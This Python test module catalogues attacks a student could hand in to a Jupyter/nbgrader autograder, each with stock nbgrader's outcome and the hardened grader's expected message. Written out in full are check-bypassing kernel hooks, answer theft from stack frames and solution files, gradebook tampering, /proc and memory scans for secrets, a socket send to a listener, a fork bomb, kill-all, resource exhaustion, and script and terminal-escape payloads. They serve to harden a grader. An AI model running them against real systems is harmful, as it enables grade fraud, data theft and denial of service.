"""Attacks, each as one student's submission, and what stock nbgrader does with each of them.

A cheat hands in a small notebook as it was released, with one more cell or file, other answers or
other metadata. `tests.hostile` grades them and says what came of each; here that must be nothing.
That an attack ran, and against which wall, is seen by the words that its page then holds.
"""

from dataclasses import dataclass

#: What may come of an attack.
EARNS, LOST = "earns points", "loses the whole submission"
FORGES = "makes a check say what it did not"
LEAKS, LEAVES = "shows what it must not see", "leaves a file or a process behind"
REACHES = "reaches programs outside"
SCRIPTS, STEERS = "runs in the page of who reads it", "steers the terminal of who reads it"
BLOATS = "fills the graded notebook"
#: What a check says that found the stubs as they were handed out.
UNWRITTEN = "predict_anomaly is not written yet"


@dataclass(frozen=True)
class Cheat:
    """One attack.

    In its texts ``MARK`` stands for a name that is unique to it, ``PORT`` and ``SOCKET`` for a
    port of this machine and an abstract socket on which somebody listens.

    Attributes
    ----------
    cell, last : str
        Sources of a cell at the top and of one at the end of the notebook.
    answer : str
        What stands in the place of all stubs; ``NAME`` is the function's name.
    cells : int
        How often the first cell is there.
    file, content : str
        Name and text of a file beside it.
    tag : str
        A tag on all grade cells.
    helps : str
        The cheat that earns points from it.
    stock : set of str
        What comes of it on stock nbgrader.
    untried : str
        Why it is not tried there.
    aim : str
        What it would have to come to, where stock nbgrader withstands it or it is not tried there.
    here : str
        Words in the outputs of this course that show how the attack ended: its own, or those of a
        check that ran although the attack was there. ``OR`` stands between two such ends, where
        it depends on the speed of the machine which one comes first.
    """

    cell: str = ""
    last: str = ""
    answer: str = ""
    cells: int = 1
    file: str = ""
    content: str = ""
    tag: str = ""
    helps: str = ""
    stock: frozenset = frozenset({EARNS})
    untried: str = ""
    aim: str = ""
    here: str = UNWRITTEN

    @property
    def aims(self) -> frozenset[str]:
        """What it is after."""
        return frozenset({self.aim} - {""}) if self.aim or self.untried else self.stock


#: Runs a grade cell as if nothing stood in it.
SKIP = "'pass' if 'import check' in code else code"
NO_JUDGE = "stock nbgrader has no judge to deceive"

HOOKS = {
    "drops-checks-from-the-syntax-tree": Cheat("""
import ast

class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        is_check = getattr(getattr(node.value, "func", None), "id", "") == "check"
        return ast.Pass() if is_check else node

get_ipython().ast_transformers.append(Drop())
"""),
    "rewrites-the-source-of-cells": Cheat("""
def skip(lines):
    return ["pass"] if any("import check" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(skip)
"""),
    "replaces-comparisons": Cheat("""
import answers
import checks
import numpy as np

np.allclose = np.testing.assert_allclose = lambda *args, **options: True
answers.agree = answers.fits = checks.fits = lambda *args, **options: True
checks.judge = lambda *args, **options: None
"""),
    "replaces-the-check": Cheat("import checks\nchecks.check = lambda *args: None"),
    "replaces-the-import": Cheat("""
import builtins, types
original = builtins.__import__

def load(name, *args, **options):
    if name == "checks":
        return types.SimpleNamespace(check=lambda *args: None)
    return original(name, *args, **options)

builtins.__import__ = load
"""),
    "jumps-over-the-check-as-a-debugger": Cheat("""
import sys

def jump(frame, event, argument):
    if frame.f_code.co_name != "passed":
        return None
    if event == "line" and "trials" in frame.f_locals:
        frame.f_lineno = max(line for *_, line in frame.f_code.co_lines() if line)
        return None
    return jump

sys.settrace(jump)
get_ipython().events.register("pre_run_cell", lambda info: sys.settrace(jump))
"""),
    "patches-the-kernel": Cheat(
        f"""
kernel = get_ipython().kernel
original = kernel.do_execute

def do_execute(code, *args, **options):
    return original({SKIP}, *args, **options)

kernel.do_execute = do_execute
""",
        here="'Shell' object has no attribute 'kernel'",
    ),
    "swallows-errors": Cheat("""
get_ipython().showtraceback = lambda *args, **options: None
import types
kernel = get_ipython().kernel
send = kernel.session.send
def quiet(stream, kind, content=None, *args, **options):
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **options)
kernel.session.send = quiet
"""),
    "replays-output": Cheat(
        """
from IPython.display import clear_output

def replay(result):
    clear_output()
    print("\\u2713 all is right")

get_ipython().events.register("post_run_cell", replay)
""",
        stock=frozenset({FORGES}),
        here="✓ all is right",
    ),
    "shadows-numpy": Cheat(
        file="numpy.py",
        content="""
import sys, types
here, sys.path[:] = list(sys.path), [place for place in sys.path if "python" in place]
del sys.modules["numpy"]
import numpy
sys.path[:] = here
fake = types.ModuleType("checks")
fake.check = lambda *args: None
sys.modules["checks"] = fake
""",
    ),
    "shadows-the-launcher": Cheat(
        file="ipykernel_launcher.py",
        content=f"""
import sys
sys.path[:] = [place for place in sys.path if "python" in place]
from ipykernel.ipkernel import IPythonKernel
original = IPythonKernel.do_execute

async def do_execute(self, code, *args, **options):
    return await original(self, {SKIP}, *args, **options)

IPythonKernel.do_execute = do_execute
from ipykernel import kernelapp
kernelapp.launch_new_instance()
""",
    ),
    "skips-grade-cells-by-a-tag": Cheat(tag="skip-execution"),
}

VALUES = {
    "arrays-that-lie": Cheat(
        answer="""
import numpy as np

class Lie(np.ndarray):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: np.True_
    __array_function__ = __array_ufunc__ = lambda self, *args, **options: True

def NAME(scores, *args, **options):
    return np.zeros(len(scores)).view(Lie)
""",
        stock=frozenset(),
        aim=EARNS,
        here="got       scores (4 events, 3 centres, 2 features) = [0, 0, 0, 0]",
    ),
    "numbers-that-lie": Cheat(
        answer="""
class Lie(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __array__ = lambda self, *args, **options: "right"
    __float__ = lambda self: self

def NAME(*args, **options):
    return Lie("nan")
""",
        stock=frozenset(),
        aim=EARNS,
        here="got       scores (4 events, 3 centres, 2 features) = nan",
    ),
    "a-tensor-that-looks-up-the-answer": Cheat(
        answer="""
import sys

class Tensor:
    __torch_function__ = classmethod(lambda *args, **options: True)

    def detach(self):
        return self

    cpu = detach

    def numpy(self):
        frame = sys._getframe()
        while frame:
            if "trial" in frame.f_locals:
                (right,) = frame.f_locals["trial"].right[0].values()
                return getattr(right, "high", right)
            frame = frame.f_back

def NAME(*args, **options):
    return Tensor()
""",
        here="got       a value that cannot be read as an array of numbers",
    ),
    "reads-the-answer-in-the-frames": Cheat(
        answer="""
import sys

def NAME(*args, **options):
    frame = sys._getframe()
    while frame:
        seen, frame = frame.f_locals, frame.f_back
        if "trial" in seen:
            (right,) = seen["trial"].right[0].values()
            return getattr(right, "high", right)
""",
        here="got       None",
    ),
    "copies-the-check-from-the-frames": Cheat(
        answer="""
import gc, inspect, linecache, sys
seen = globals().setdefault("seen", set())

def NAME(*args, **options):
    frame = sys._getframe()
    while frame:
        seen.update(linecache.getlines(frame.f_code.co_filename))
        frame = frame.f_back
    for found in gc.get_objects():
        if inspect.iscode(found) and "### BEGIN" in str(linecache.getlines(found.co_filename)):
            seen.update(linecache.getlines(found.co_filename))
    raise ValueError("".join(inspect.stack()[2].code_context or ()))
""",
        last="print(*seen)",
        stock=frozenset({LEAKS}),
        here="got       ValueError, in nearest_center_distance2",
    ),
    "an-error-that-tells-who-asks": Cheat(
        answer="""
import inspect

def NAME(*args, **options):
    try:
        raise ValueError
    except ValueError as error:
        frame, source, right = error.__traceback__.tb_frame, "", None
    while frame:
        seen, frame = frame.f_locals, frame.f_back
        if seen.get("specify"):
            source = inspect.getsource(seen["specify"])
        if "trial" in seen:
            (right,) = seen["trial"].right[0].values()
    if right is not None and not source:
        return getattr(right, "high", right)
    # One that fits into a line of the message.
    lines = [line.strip() for line in source.splitlines()]
    raise RuntimeError(max((line for line in lines if len(line) < 50), key=len, default=""))
""",
        stock=frozenset({LEAKS}),
        here="got       RuntimeError, in nearest_center_distance2",
    ),
    "prints-the-cells-of-others": Cheat(
        cell="""
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
""",
        last="print(*seen, *In)",
        stock=frozenset({LEAKS}),
        here="def nearest_center_distance2(X, centers):",
    ),
    "grows-without-end": Cheat(
        answer="""
class Endless(list):
    def __iter__(self):
        while True:
            yield self

    __len__ = lambda self: 3

def NAME(*args, **options):
    return Endless()
""",
        untried="fills the memory of the machine",
        here="too large: more than 32 levels of nesting",
        aim=LOST,
    ),
    "answers-far-too-much": Cheat(
        answer="""
import numpy as np

def NAME(*args, **options):
    return np.zeros(9_000_000)
""",
        stock=frozenset(),
        here="too large: more than 67108864 bytes",
        aim=LOST,
    ),
    "nests-ten-thousand-deep": Cheat(
        answer="""
def NAME(*args, **options):
    value = []
    for _ in range(10_000):
        value = [value]
    return value
""",
        stock=frozenset(),
        here="too large: more than 32 levels",
        aim=LOST,
    ),
    "calls-itself-until-python-breaks": Cheat(
        answer="""
import sys

def NAME(*args, **options):
    sys.setrecursionlimit(10**9)
    value = ()
    for _ in range(10**5):
        value = (value,)
    return repr(value)
""",
        stock=frozenset({LOST}),
        here="ended the Python OR This cell was stopped: it ran longer",
    ),
}

OUTSIDE = {
    "reads-the-solution": Cheat("""
import glob, json, os
import numpy as np
place = os.getcwd()
while place != "/" and not os.path.isdir(place + "/source"):
    place = os.path.dirname(place)
for path in glob.glob(place + "/source/hw11/problem3*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if "### BEGIN SOLUTION" in "".join(cell["source"]):
            solution = "".join(cell["source"])
            name = solution.split("def ")[1].split("(")[0]
            exec(solution)
            keep = globals()[name]
            # The stub below defines the name again: the cell is taken out of its way.
            get_ipython().input_transformers_cleanup.append(
                lambda lines, name=name: ["pass"] if f"def {name}(" in "".join(lines) else lines
            )
"""),
    "writes-into-the-gradebook": Cheat(
        """
import os, sqlite3
place = os.getcwd()
student = place.split("/")[-2]
while place != "/" and not os.path.exists(place + "/gradebook.db"):
    place = os.path.dirname(place)
with sqlite3.connect(place + "/gradebook.db") as gradebook:
    gradebook.execute(
        "UPDATE grade SET manual_score = 5 WHERE notebook_id IN ("
        "  SELECT notebook.id FROM submitted_notebook AS notebook"
        "  JOIN submitted_assignment AS submission ON submission.id = notebook.assignment_id"
        "  WHERE submission.student_id = ?)",
        [student],
    )
""",
        here="unable to open database file",
    ),
    "looks-around": Cheat(
        r"""
import glob, os, re
from pathlib import Path

found = set(re.findall("canary-[a-z]+-[0-9a-f]{16}", str(dict(os.environ))))
here = Path.cwd()
for place in [here, *here.parents][:-1][:4]:
    for path in [path for depth in (1, 3, 4) for path in glob.glob(str(place) + depth * "/*")]:
        if os.path.isfile(path):
            text = open(path, "rb").read().decode(errors="replace")
            found.update(re.findall("canary-[a-z]+-[0-9a-f]{16}", text))
            found.update(re.findall("rng = np.random[^,\"\\\\]*", text))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found.update(re.findall("canary-[a-z]+-[0-9a-f]{16}", open(path, errors="replace").read()))
    except OSError:
        pass
print(*found)
print("looked around")
""",
        stock=frozenset({LEAKS}),
        here="looked around",
    ),
    "reads-its-own-memory": Cheat(
        r"""
import re
found, size = set(), 1 << 22
memory = open("/proc/self/mem", "rb")
for line in open("/proc/self/maps"):
    addresses, rights, *_ = line.split()
    start, end = (int(address, 16) for address in addresses.split("-"))
    if rights[:2] == "rw" and "[v" not in line:
        try:
            memory.seek(start)
            while start < end:
                part = memory.read(min(size, end - start))
                found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", part))
                start += size
        except (OSError, ValueError, OverflowError):
            continue
print(*found)
print("read everything")
""",
        stock=frozenset({LEAKS}),
        here="read everything",
    ),
    "leaves-files": Cheat(
        """
import os, tempfile
for place in (os.path.expanduser("~"), tempfile.gettempdir(), "../../.."):
    try:
        open(os.path.join(place, "MARK"), "w").write("import os")
    except OSError as error:
        print(error)
""",
        stock=frozenset({LEAVES}),
        here="Read-only file system: '../../../mark-",
    ),
    "poisons-the-libraries": Cheat(
        """
import os, sys, numpy, checks
for place in (numpy.__file__, numpy.__path__[0] + "/__pycache__", sys.prefix, os.__file__, "/usr"):
    for name in (place, place + "/MARK.pth", place + "/sitecustomize.py"):
        try:
            open(name, "a").close()
            print("opened", name)
        except OSError as error:
            print(type(error).__name__, error)
""",
        untried="would change the libraries of this machine",
        here="Read-only file system",
        aim=LEAVES,
    ),
    "calls-out": Cheat(
        """
import socket
for kind, place in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, chr(0) + "SOCKET")):
    try:
        with socket.socket(kind) as line:
            line.settimeout(2)
            line.connect(place)
            line.sendall(b"MARK")
    except OSError as error:
        print(type(error).__name__, error)
""",
        stock=frozenset({REACHES}),
        here="unreachable",
    ),
    "talks-to-what-it-inherited": Cheat(
        """
import os, socket, stat
for line in open("/proc/net/unix"):
    print(line.split()[-1])
for number in os.listdir("/proc/self/fd"):
    try:
        print(number, os.readlink("/proc/self/fd/" + number))
        if int(number) > 2 and stat.S_ISSOCK(os.fstat(int(number)).st_mode):
            os.write(int(number), b"\\0" * 8 + b"\\xff" * 1000)
    except OSError as error:
        print(error)
""",
        untried="would write into the sockets of other programs",
        here="This cell sent an answer that breaks the rules",
        aim=REACHES,
    ),
    "uses-up-the-quota-of-keys": Cheat(
        """
import ctypes, os
add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
call = ctypes.CDLL(None).syscall
made = [call(add_key, b"user", b"MARK%d" % number, b"x", 1, -3) >= 0 for number in range(300)]
print("keys:", sum(made))
""",
        untried="uses up the keys of whoever runs the tests",
        here="keys: 0",
        aim=LOST,
    ),
    "locks-and-watches-the-libraries": Cheat(
        """
import ctypes, fcntl, os
files = [open(os.__file__), open("/dev/null", "w")]
fcntl.flock(files[0], fcntl.LOCK_EX)
fcntl.lockf(files[1], fcntl.LOCK_EX)
inotify_init1 = {"x86_64": 294, "aarch64": 26}[os.uname().machine]
watches = [ctypes.CDLL(None).syscall(inotify_init1, 0) for _ in range(200)]
print("watches:", sum(watch >= 0 for watch in watches))
""",
        untried="uses up the watches of whoever runs the tests",
        here="watches: 0",
        aim=LOST,
    ),
    "reaches-for-other-sockets": Cheat(
        """
import socket
opened = []
for family in range(1, 46):
    try:
        opened.append(socket.socket(family, socket.SOCK_DGRAM).family.value)
    except OSError:
        pass
print("families:", opened)
""",
        stock=frozenset(),
        here="families: [1, 2, 10]",
        aim=REACHES,
    ),
    "takes-tables-of-pages": Cheat(
        """
import mmap
there = mmap.mmap(-1, 200 << 30, flags=0x4022, prot=mmap.PROT_READ)
for place in range(0, len(there), 2 << 20):
    there[place]
print("took them")
""",
        untried="fills the memory of the machine",
        here="Cannot allocate memory",
        aim=LOST,
    ),
    "hunts-its-parents": Cheat(
        """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
print("parent", os.getppid(), "processes", [n for n in os.listdir("/proc") if n.isdigit()])
own = {int(thread) for thread in os.listdir("/proc/self/task")}
for number in {os.getppid(), *range(1, 50)} - own:
    if number:
        print(libc.ptrace(16, number, None, None), end=" ")
        for kind in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(number, kind)
            except OSError:
                pass
try:
    open("/proc/1/mem", "rb")
except OSError as error:
    print(error)
os.kill(-1, 9)
print("survived")
""",
        untried="ends every process of the machine",
        here="survived",
        aim=LOST,
    ),
}

ENDLESS = {
    "ends-python": Cheat(
        "import os; os._exit(0)", stock=frozenset({LOST}), here="Python ended while this cell ran"
    ),
    "ends-python-over-and-over": Cheat(
        "import os; os._exit(0)",
        cells=25,
        stock=frozenset({LOST}),
        here="20 cells before it had ended Python OR the notebook ran longer",
    ),
    "ends-python-when-asked": Cheat(
        answer="def NAME(*args, **options):\n    raise SystemExit('right')",
        stock=frozenset(),
        aim=EARNS,
        here="got       SystemExit: right",
    ),
    "kills-python-when-asked": Cheat(
        answer="def NAME(*args, **options):\n    import os; os.kill(os.getpid(), 9)",
        stock=frozenset({LOST}),
        here="ended the Python",
    ),
    "never-ends-and-catches-everything": Cheat(
        """
import signal, time
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
        stock=frozenset({LOST}),
        here="it ran longer than 2 s",
    ),
    "never-answers": Cheat(
        answer="""
import time

def NAME(*args, **options):
    if "NAME" != "anomaly_threshold":
        raise ValueError
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
""",
        stock=frozenset({LOST}),
        here="it ran longer than 2 s",
    ),
    "leaves-a-thread": Cheat(
        """
import threading, time
threading.Thread(target=lambda: [time.sleep(1) for _ in range(10**9)]).start()
""",
        stock=frozenset(),
        aim=LEAVES,
    ),
    "leaves-a-process": Cheat(
        """
import os, subprocess
subprocess.Popen(["MARK", "3600"], executable="/bin/sleep", start_new_session=True)
""",
        stock=frozenset({LEAVES}),
        here="<Popen: returncode: None",
    ),
    "keeps-the-processors-busy": Cheat(
        """
import os
for number in range(60):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError as error:
        print(number, error)
        break
""",
        untried="slows the machine until somebody ends it",
        here="Resource temporarily unavailable",
        aim=LEAVES,
    ),
    "forks-up-to-the-limit": Cheat(
        """
import os, time
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
bomb()
""",
        untried="a fork bomb",
        here="it ran longer than 2 s",
        aim=LEAVES,
    ),
    "takes-all-memory": Cheat(
        """
import mmap, os
for _ in range(4):
    if os.fork() == 0:
        hoard = []
        while True:
            try:
                hoard.append(mmap.mmap(-1, 1 << 26))
                hoard[-1].write(bytes(1 << 26))
            except BaseException:
                pass
while True:
    pass
""",
        untried="fills the memory of the machine",
        here="MiB of memory",
        aim=LOST,
    ),
    "fills-the-disk": Cheat(
        """
import os, tempfile
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), tempfile.gettempdir()):
    try:
        for number in range(10_000):
            with open(f"{place}/{number}", "wb") as file:
                file.write(b"x" * (4 << 20))
    except OSError as error:
        print(error)
""",
        untried="fills the disk of the machine",
        here="No space left on device",
        aim=LEAVES,
    ),
}

PAGES = {
    "prints-50-MB": Cheat(
        "print('x' * 50_000_000)", stock=frozenset({BLOATS}), here="was cut off here"
    ),
    "prints-a-little-in-each-of-many-cells": Cheat(
        "print('x' * 1_000_000)",
        cells=25,
        stock=frozenset({BLOATS}),
        here="the rest was cut off here",
    ),
    "raises-100-MB": Cheat(
        "raise ValueError('x' * 100_000_000)", stock=frozenset({BLOATS}), here="xxx"
    ),
    "hands-in-scripts": Cheat(
        """
from IPython.display import HTML, SVG, Javascript, display
evil = "<script>document.title = 'MARK'</script>"
display(HTML(evil), Javascript("alert('MARK')"))
display({"text/html": evil, "image/png": '"><' + evil, "image/svg+xml": evil}, raw=True)
raise type(evil, (Exception,), {})(evil)
""",
        stock=frozenset({SCRIPTS}),
        here="<script>",
    ),
    "steers-the-terminal": Cheat(
        """
print("\\x1b[2J\\x1b]0;MARK\\x07\\x9b2J\\u202e")
raise ValueError("\\x1b[2J\\x1b]0;MARK\\x07\\x9b2J\\u202e")
""",
        stock=frozenset({STEERS}),
        here="ValueError",
    ),
}

#: Takes the place of what answers for the student; only the engine has such a thing.
TAKE_OVER = """
import os, socket, sys, time
import grading.engine.kernel as kernel

"""
JUDGE = {
    "speaks-for-the-system": Cheat(
        TAKE_OVER
        + """
def in_a_copy(channel):
    _, descriptors, *_ = socket.recv_fds(channel, 1, 1)
    if os.fork() == 0:
        socket.socket(fileno=descriptors[0]).sendall(b"-stop the grading")
        os._exit(0)
    os.close(descriptors[0])

kernel.in_a_copy = in_a_copy
""",
        untried=NO_JUDGE,
        here="is not written yet",
        aim=LOST,
    ),
    "answers-garbage": Cheat(
        TAKE_OVER
        + """
def testify(channel, namespace):
    channel.sendall(bytes(7) + b"\\1g")
    time.sleep(9)

kernel.testify = testify
""",
        untried=NO_JUDGE,
        here="Python could not go on before this cell",
        aim=EARNS,
    ),
    "answers-before-it-is-asked": Cheat(
        TAKE_OVER
        + """
from grading.engine.protocol import Answered, say

def testify(channel, namespace):
    names = ["nearest_center_distance2", "anomaly_threshold", "predict_anomaly", "expect", "np"]
    say(channel, Answered(1, dict.fromkeys(names, 1.0), [], ""))
    for number in range(2, 9):
        say(channel, Answered(number, [float("nan"), [[0, "x"], [-1, 5]], [0, []]], [], ""))
    time.sleep(9)

kernel.testify = testify
""",
        untried=NO_JUDGE,
        here="expected",
        aim=EARNS,
    ),
    "carries-the-questions-home": Cheat(
        TAKE_OVER
        + """
import grading.engine.witness as witness

witness.own_line = witness.text_of = lambda error: "home" * 5000
""",
        answer="def NAME(*args, **options):\n    raise ValueError",
        untried=NO_JUDGE,
        here="homehome",
        aim=LEAKS,
    ),
    "forges-its-outputs": Cheat(
        TAKE_OVER
        + """
def reply(channel, ran):
    evil = "<script>MARK</script>"
    outputs = [
        ["display_data", {"text/html": evil, "image/png": '"><' + evil, 1: 2}],
        ["error", evil, "\\x1b[2J", [1, evil]], ["error"], 5, ["stream", "stdout", "forged"],
        ["stream", "stdin", "x"], ["execute_result", [["text/plain", "1"]]],
    ]
    kernel.say(channel, kernel.Ran(outputs, evil, -5))

kernel.reply = reply
""",
        untried=NO_JUDGE,
        here="forged",
        aim=FORGES,
    ),
    "answers-byte-by-byte": Cheat(
        TAKE_OVER
        + """
def reply(channel, outputs):
    channel.sendall(b"\\0\\0\\x10\\0" + bytes(4))
    while True:
        try:
            channel.sendall(b"x")
            time.sleep(0.2)
        except BaseException:
            pass

kernel.reply = reply
""",
        untried=NO_JUDGE,
        here="it ran longer than 2 s",
        aim=LOST,
    ),
}

#: At the end, because every later student has something from it on stock nbgrader.
STARTUP = {
    "leaves-a-startup-file": Cheat(
        helps="finds-a-startup-file",
        cell="""
import os
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(folder + "/00-MARK.py", "w") as file:
    file.write('''
def skip(lines):
    return ["pass"] if any("import check" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(skip)
''')
""",
        stock=frozenset({LEAVES}),
    ),
    "finds-a-startup-file": Cheat(),
}

CHEATS = HOOKS | VALUES | OUTSIDE | ENDLESS | PAGES | JUDGE | STARTUP

#: Cells that surprise and change nothing: whoever hands them in with right answers is right.
NOISE = """
import random, sys, warnings
import matplotlib.pyplot as plt
import numpy, torch
np.random.seed(3); random.seed(3); torch.manual_seed(3)
torch.set_default_dtype(torch.float64)
torch.set_num_threads(2)
X = y = Z = labels = checkpoint = want = rng = scores = events = None
check = checks = cases = answers = specify = Task = Case = None
sys.modules["checks"] = None
numpy.set_printoptions(precision=1)
numpy.seterr(all="raise")
warnings.warn("noise")
print("noise", file=sys.stderr)
plt.figure(); plt.plot([1, 2])
"""
